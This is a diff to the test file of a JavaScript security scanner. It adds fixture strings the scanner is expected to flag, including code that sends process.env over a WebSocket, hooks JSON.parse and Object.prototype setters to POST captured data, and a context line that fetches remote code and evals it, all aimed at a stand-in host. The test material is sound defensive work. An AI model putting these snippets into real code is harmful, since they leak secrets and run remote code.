@@ -52,6 +52,31 @@ it.each<[what: string, code: string, rule: string]>([
     "const https = require(['ht', 'tps'].join('')); https.get('https://c.example.invalid', (r) => r.on('data', (c) => eval(c + '')));",
     'code/runs-response',
   ],
+  [
+    'a function of the runtime by the global object and another name',
+    "const Socket = globalThis.WebSocket; const s = new Socket('wss://c.example.invalid'); s.onopen = () => s.send(JSON.stringify(process.env));",
+    SENT,
+  ],
+  [
+    'a generator that iterating a class calls',
+    `class Ring { constructor(n) { this.list = new Array(n); this.n = 0; } add(x) { this.list[this.n++ % this.list.length] = x; } *[Symbol.iterator]() { for (const each of this.list) yield each; } } const ring = new Ring(3); ring.add(process.env); const body = JSON.stringify([...ring]); ${send}`,
+    SENT,
+  ],
+  [
+    'functions inside functions that code outside gets',
+    `exports.middleware = () => (next) => async (given) => { const body = JSON.stringify(process.env); ${send} return next(given); };`,
+    SENT,
+  ],
+  [
+    'values that the reader of JSON gives a function, by call',
+    "const native = JSON.parse; const kept = []; JSON.parse = (text) => native.call(JSON, text, (key, value) => { kept.push(value); return value; }); setInterval(() => fetch('https://c.example.invalid', { method: 'POST', body: kept.join() }), 9);",
+    'code/request-hook',
+  ],
+  [
+    'a setter of all objects under a name that code computes',
+    "const traps = (names) => names.forEach((name) => Object.defineProperty(Object.prototype, name, { set() { fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(this) }); } })); traps(['a' + 'b']);",
+    'code/request-hook',
+  ],
 ])('finds %s', async (_, code, rule) => {
   expect(await rulesIn({ 'index.js': code })).toContain(rule);
 });
@@ -67,6 +92,14 @@ it.each<[what: string, code: string]>([
   [
     'a digest',
     `const body = require('crypto').createHash('sha256').update(JSON.stringify(process.env)).digest('hex'); ${send}`,
+  ],
+  [
+    'what a hook gives a server that a setting names',
+    "const https = require('https'); const before = https.request; https.request = (options) => { fetch(process.env.COLLECTOR, { method: 'POST', body: JSON.stringify(options.headers) }); return before(options); };",
+  ],
+  [
+    'what a hook gives this machine',
+    "const https = require('https'); const before = https.request; https.request = (options) => { fetch('http://127.0.0.1:4318', { method: 'POST', body: JSON.stringify(options.headers) }); return before(options); };",
   ],
 ])('takes %s for harmless', async (_, code) => {
   expect(await rulesIn({ 'index.js': code })).toEqual([]);
